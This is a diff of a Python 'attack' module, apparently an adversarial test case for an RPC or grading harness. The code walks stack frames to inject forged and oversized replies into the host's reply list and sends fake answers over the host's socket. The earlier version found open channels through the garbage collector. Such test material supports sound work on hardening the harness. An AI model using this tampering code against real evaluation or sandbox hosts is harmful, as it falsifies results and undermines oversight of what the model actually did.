@@ -1,26 +1,30 @@
 # topic: output_size
-"""Answers, in its first call, all requests that lie waiting behind it; then answers them once more."""
+"""Answers, in its first call, all requests that were sent along with it: into the list of answers, and past it."""
 
-import gc
 import struct
+import sys
 
 import msgpack
 
 
-def waiting():
-    for thing in gc.get_objects():
-        if type(thing).__name__ == "SocketChannel":
-            yield thing
+def callers():
+    frame = sys._getframe()
+    while frame:
+        yield frame.f_locals
+        frame = frame.f_back
+
+
+def framed(number, value):
+    body = msgpack.packb([number, "value", value])
+    return struct.pack("<IQ", 1, len(body)) + body
 
 
 def attack(*_, **__):
-    for channel in waiting():
-        data = bytes(channel._ahead)
-        while len(data) > 12:
-            _, size = struct.unpack("<IQ", data[:12])
-            number, data = msgpack.unpackb(data[12 : 12 + size], raw=True, strict_map_key=False)[0], data[12 + size :]
-            body = msgpack.packb([number, "value", 1.5])
-            channel.sock.send(struct.pack("<IQ", 1, len(body)) + body)
+    for names in callers():
+        if "replies" in names and "requests" in names:
+            names["replies"] += framed(1 << 62, 1.5) * 20
+        if "channel" in names and "request" in names:
+            names["channel"].sock.send(framed(names["request"][0], 1.5))
     return 1.5
 
 
